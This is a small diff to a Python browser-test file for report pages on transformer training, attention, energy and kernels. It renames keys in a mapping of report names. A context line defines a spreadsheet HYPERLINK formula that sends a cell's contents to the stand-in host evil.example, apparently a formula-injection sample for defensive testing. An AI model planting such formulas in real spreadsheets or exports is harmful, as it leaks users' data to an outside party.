@@ -22,7 +22,7 @@ from tests.conftest import ROOT, SAMPLES
 
 pytestmark = pytest.mark.browser
 NAMES = ("transformer_training", "attention", "energy", "tasks", "kernels")
-SHOWS = {"attention": "attention", "timings": "energy", "energy": "energy", "crossover": "tasks", "scaling": "ddp_1"}
+SHOWS = {"attention": "attention", "timer_check": "energy", "energy": "energy", "cpu_gpu": "tasks", "scaling": "ddp_1"}
 """The report on which a page has most to show; the others show the training."""
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
